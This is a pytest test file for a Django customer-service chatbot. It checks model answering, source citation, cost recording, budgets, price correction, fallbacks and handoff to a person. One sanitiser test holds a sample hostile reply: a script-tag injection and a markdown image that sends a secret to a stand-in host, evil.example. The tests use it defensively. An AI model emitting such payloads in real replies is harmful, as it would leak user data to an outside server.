"""What a language model answers, from what, at what cost; and what is left when it brings nothing."""

import json
from datetime import timedelta
from decimal import Decimal

import pytest
from django.utils import timezone

from bots.models import Faq
from catalog.models import OfferingVersion, VariantPrice
from runtime.model import answering
from runtime.models import DecisionEvent, Turn
from tenants.models import Setting
from tests.conftest import in_tenant
from tests.rows import an_offering
from tests.runtime.conftest import messages_to_database
from tests.runtime.model.conftest import PROMPT, answers, plain
from tests.vault import openai_server as server
from tests.vault.openai_server import KEY
from vault.budgets import save_budget
from vault.models import Budget, UsageEntry
from vault.services import store_credential

QUESTION = "Tell me about the Trail Runner Backpack"


def decision():
    return DecisionEvent.objects.latest("id")


def system_of(endpoint, call=-1):
    return endpoint.asked[call].body["messages"][0]["content"]


def test_what_the_cheap_tiers_are_sure_of_costs_nothing(say, endpoint):
    assert say("How long does delivery take?").decision["tier"] == "faq"
    assert say("How much is the Trail Runner Backpack?").decision["tier"] == "catalog"
    assert say("show me a backpack under 1tr5").decision["tier"] == "catalog"
    assert endpoint.asked == []
    assert not UsageEntry.objects.exists()


def test_a_faq_asked_word_for_word_asks_no_model_though_a_description_tells_of_it(say, endpoint):
    OfferingVersion.objects.filter(name="Trail Runner Backpack 30L").update(description="The backpack is made of nylon.")
    asked = "Is the Trail Runner Backpack made of nylon?"
    Faq.objects.create(question=asked, answer="Of recycled nylon.", language="en")
    assert plain(say(asked.lower())) == "Of recycled nylon."
    assert endpoint.asked == []


def test_the_model_answers_from_sources_and_names_them(say, endpoint):
    endpoint.script = [answers("The Trail Runner Backpack costs 1,250,000 ₫ [1]. It is a good backpack.")]
    recorded = say(QUESTION)
    assert recorded.decision["tier"] == "llm"
    assert plain(recorded) == "The Trail Runner Backpack costs 1,250,000 ₫. It is a good backpack."
    [source] = recorded.decision["sources"]
    numbered = [json.loads(line) for line in system_of(endpoint).splitlines() if line.startswith('{"n"')]
    assert source["id"] == next(one["id"] for one in numbered if one["n"] == 1)
    assert [card["name"] for card in recorded.reply["ui_metadata"]["cards"]] == [source["title"]]


def test_the_prompt_holds_the_instructions_the_facts_of_now_and_the_last_turns(say, endpoint):
    say("How long does delivery take?")
    VariantPrice.objects.filter(amount=1_250_000).update(amount=1_300_000)
    say(QUESTION)
    asked = endpoint.asked[0].body
    assert PROMPT in asked["messages"][0]["content"]
    assert "1,300,000" in asked["messages"][0]["content"]
    assert "Answer the customer in English" in asked["messages"][0]["content"]
    assert [one["role"] for one in asked["messages"]] == ["system", "user", "assistant", "user"]
    assert asked["messages"][2]["content"] == "Two to four working days."
    assert asked["messages"][-1]["content"] == QUESTION
    assert asked["max_tokens"] == answering.MOST_OUTPUT_TOKENS


def test_the_history_is_a_window(say, endpoint):
    for number in range(9):
        say(f"How long does delivery take{'?' * number}")
    say(QUESTION)
    history = endpoint.asked[0].body["messages"][1:-1]
    assert len(history) == 12
    assert history[-2]["content"] == "How long does delivery take????????"


def test_the_cost_is_recorded_once_and_told(say, endpoint, session):
    endpoint.script = [answers("It is a fine backpack.", told=server.usage(1000, 200))]
    recorded = say(QUESTION)
    assert recorded.decision["estimated_cost_usd"] == "0.001400"
    entry = UsageEntry.objects.get()
    assert (entry.state, entry.amount, entry.bot_id) == ("settled", Decimal("0.0014"), session.bot_id)
    assert (entry.subject_kind, entry.subject_id) == ("runtime.turn", recorded.turn["id"])
    [call] = decision().decision_metadata["model"]["calls"]
    assert (call["model"], call["input_tokens"], call["output_tokens"]) == ("gpt-test", 1000, 200)


def test_the_same_message_again_asks_no_model_again(say, endpoint):
    endpoint.script = [answers("It is a fine backpack.")]
    first = say(QUESTION, external_id="m-1")
    assert say(QUESTION, external_id="m-1").reply == first.reply
    assert len(endpoint.asked) == 1


def test_without_an_endpoint_nothing_is_asked_and_nothing_costs_more(say, session):
    with messages_to_database() as sent:
        assert say("What is the capital of Mongolia?").decision["tier"] == "handoff"
    assert len(sent) <= 4
    assert say(QUESTION).decision["tier"] == "catalog"


def test_a_turn_with_one_call_costs_ten_messages_to_the_database(say, endpoint):
    endpoint.script = [answers("The Trail Runner Backpack costs 1,250,000 ₫.")]
    Setting.effective("model_seconds")  # read at most once a second
    with messages_to_database() as sent:
        assert say(QUESTION).decision["tier"] == "llm"
    assert len(sent) <= 10, sent


def test_the_tenants_own_account_is_asked_first(say, endpoint, session, settings, loopback_allowed):
    settings.LLM_BASE_URL = ""
    store_credential(
        provider="openai",
        kind="custom",
        label="Ours",
        secret={"api_key": "sk-own", "base_url": endpoint.base_url},
        metadata={"model": "own-model"},
    )
    assert say(QUESTION).decision["tier"] == "catalog"  # the bot has no grant, and there is no other account
    grant_to_bot(session)
    endpoint.script = [answers("It is a fine backpack.")]
    assert say(QUESTION).decision["tier"] == "llm"
    assert endpoint.asked[0].headers["authorization"] == "Bearer sk-own"
    assert endpoint.asked[0].body["model"] == "own-model"


def grant_to_bot(session):
    from vault.models import Credential, CredentialGrant

    CredentialGrant.objects.create(credential=Credential.objects.get(), bot=session.bot)


def test_what_the_sources_do_not_answer_is_left_to_a_person(say, endpoint):
    endpoint.script = [answers("UNKNOWN")]
    recorded = say("What is the capital of Mongolia?")
    assert recorded.decision["tier"] == "handoff"
    assert recorded.reply["ui_metadata"]["quick_replies"][0]["action"] == "escalate"
    assert decision().decision_metadata["model"]["why"] == "unknown"
    assert Decimal(recorded.decision["estimated_cost_usd"]) > 0


def test_a_reply_with_a_wrong_price_is_replaced_by_what_the_catalogue_says(say, endpoint):
    endpoint.script = [answers("The Trail Runner Backpack costs 990,000 ₫.")]
    recorded = say(QUESTION)
    assert recorded.decision["tier"] == "catalog"
    assert "1,250,000 ₫" in plain(recorded)
    assert "990,000" not in plain(recorded)
    replaced = decision().decision_metadata["model"]["replaced"]
    assert (replaced["kind"], replaced["said"]) == ("amount", "990,000 ₫")


def test_a_price_that_changed_while_the_model_was_thinking_is_not_told(say, endpoint, monkeypatch):
    ask = answering._Talk._ask

    def ask_while_the_price_changes(self, *arguments):
        VariantPrice.objects.filter(amount=1_250_000).update(amount=1_300_000)
        return ask(self, *arguments)

    monkeypatch.setattr(answering._Talk, "_ask", ask_while_the_price_changes)
    endpoint.script = [answers("The Trail Runner Backpack costs 1,250,000 ₫.")]
    recorded = say(QUESTION)
    assert recorded.decision["tier"] == "catalog"
    assert "1,300,000 ₫" in plain(recorded)


def test_a_doubtful_reply_without_an_offering_offers_a_person(say, endpoint):
    endpoint.script = [answers("Giao hàng nhanh giá 99.000đ.")]
    recorded = say("Thời tiết ngày mai thế nào?")
    assert recorded.decision["tier"] == "handoff"
    assert "99" not in plain(recorded)
    assert decision().decision_metadata["model"]["why"] == "unproven"


def test_a_doubtful_reply_is_not_replaced_by_an_offering_that_nobody_asked_for(say, endpoint):
    endpoint.script = [answers("We deliver free of charge to Hanoi within two hours for 5,000 ₫.")]
    recorded = say("Who wears a runner shoe?")
    assert recorded.decision["tier"] == "handoff"
    assert "Backpack" not in plain(recorded)
    assert decision().decision_metadata["model"]["why"] == "unproven"


ONE_MEGABYTE = "word " * 200_000


@pytest.mark.parametrize(
    ("steps", "why", "costs"),
    [
        ([server.error(429, "rate_limit_exceeded")] * 3, "retry", False),
        ([server.error(429, "rate_limit_exceeded", Retry_After="86400")], "retry", False),
        ([server.error(429, "insufficient_quota")], "quota", False),
        ([server.error(500)] * 3, "retry", False),
        ([server.error(401, "invalid_api_key")], "permanent", False),
        ([server.sends(b'{"choices": [')] * 3, "permanent", True),
        ([server.hangs_up] * 3, "retry", True),
        ([answers("")], "empty", True),
        ([answers(None)], "empty", True),
        ([answers(ONE_MEGABYTE)], "too_long", True),
        ([answers("I will not.", finish_reason="content_filter")], "content_filter", True),
        ([answers(None, refusal="No.")], "content_filter", True),
        ([answers("您好，这个背包非常好，推荐购买。谢谢您的光临。")], "wrong_language", True),
        ([answers("cut off in the mid", finish_reason="length")], "empty", True),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_whatever_goes_wrong_ends_in_words_and_the_offer_of_a_person(say, endpoint, steps, why, costs):
    endpoint.script = list(steps)
    recorded = say("What is the capital of Mongolia?", external_id="m-1")
    assert recorded.decision["tier"] == "handoff"
    assert plain(recorded).startswith("I ")
    assert recorded.reply["ui_metadata"]["quick_replies"][0]["action"] == "escalate"
    assert decision().decision_metadata["model"]["why"] == why
    assert (Decimal(recorded.decision["estimated_cost_usd"]) > 0) is costs
    assert Turn.objects.filter(speaker="assistant").count() == 1
    told = sum(entry.amount for entry in UsageEntry.objects.all())
    assert Decimal(recorded.decision["estimated_cost_usd"]) == round(told, 6)


def test_a_model_that_takes_too_long_is_given_up(say, endpoint, monkeypatch):
    monkeypatch.setattr(answering.Setting, "effective", {"model_seconds": 0.2}.__getitem__)
    endpoint.script = [server.slow(3.0)]
    recorded = say("What is the capital of Mongolia?")
    assert recorded.decision["tier"] == "handoff"
    assert decision().decision_metadata["model"]["why"] == "timeout"


def test_fallbacks_speak_the_customers_language(say, endpoint):
    endpoint.script = [server.error(500)] * 3
    assert say("Thời tiết ngày mai thế nào?").decision["tier"] == "handoff"
    assert Turn.objects.latest("id").language == "vi"


def test_a_used_up_budget_is_told_politely_and_others_go_on(say, endpoint, session, harbour, saigon):
    budget = Budget(bot=None, currency="USD", period="day", limit_amount=Decimal("0.000001"))
    save_budget(budget=budget)
    recorded = say("What is the capital of Mongolia?")
    assert recorded.decision["tier"] == "handoff"
    assert decision().decision_metadata["model"]["why"] == "budget_exceeded"
    assert endpoint.asked == []
    assert say("How long does delivery take?").decision["tier"] == "faq"


def test_what_a_model_says_is_made_harmless(say, endpoint):
    endpoint.script = [
        answers(
            "Hello <script>alert(x)</script> ![x](https://evil.example/?d=secret) see [here](https://evil.example). **Bye**"
        )
    ]
    text = plain(say("What is the capital of Mongolia?"))
    assert not any(part in text for part in ("<script", "evil.example", "![", "**"))
    assert "Bye" in text


def test_no_secret_and_nothing_of_other_tenants_is_in_the_prompt(say, endpoint, session, harbour):
    with in_tenant(harbour.tenant):
        Faq.objects.create(question=QUESTION, answer="HARBOUR-CANARY", language="en")
        an_offering("Trail Runner Backpack HARBOUR-CANARY", category="bags")
    with in_tenant(session.tenant_id):
        store_credential(provider="n8n", kind="api_key", label="x", secret={"api_key": "sk-canary-secret"})
        say(QUESTION)
    sent = json.dumps(endpoint.asked[0].body, ensure_ascii=False)
    assert "CANARY" not in sent
    assert KEY not in sent
    assert "sk-canary" not in sent


def test_a_turn_that_lost_the_race_asks_again_and_pays_for_both(say, endpoint, session, monkeypatch):
    from runtime import turn
    from runtime.models import Session

    decide, decided = turn.decide, []

    def decide_while_another_turn_is_recorded(context):
        decided.append(context.turn_number)
        if len(decided) == 1:
            Session.objects.filter(pk=session.pk).update(turn_number=7)
        return decide(context)

    monkeypatch.setattr(turn, "decide", decide_while_another_turn_is_recorded)
    endpoint.script = [answers("It is a fine backpack."), answers("It is a very fine backpack.")]
    recorded = say(QUESTION)
    assert plain(recorded) == "It is a very fine backpack."
    assert UsageEntry.objects.count() == 2
    assert timezone.now() - recorded.reply["created_at"] < timedelta(minutes=1)


def test_sources_are_those_that_bear_out_the_reply_and_no_others(say, endpoint):
    Faq.objects.create(question="Do you wrap gifts?", answer="Yes, gift wrapping is done in paper.", language="en")
    for text, titles in (
        ("Yes, the wrapping is done in paper.", ["Do you wrap gifts?"]),
        ("The Trail Runner Backpack is a good one.", ["Trail Runner Backpack 30L"]),
        ("What would you like to know about it?", []),
        ("Gift wrapping costs 15,000 ₫.", ["Do you wrap gifts?"]),
    ):
        endpoint.script = [answers(text)]
        recorded = say("Can you wrap the Trail Runner Backpack in paper?")
        assert recorded.decision["tier"] == "llm", text
        assert [one["title"] for one in recorded.decision["sources"]] == titles, text
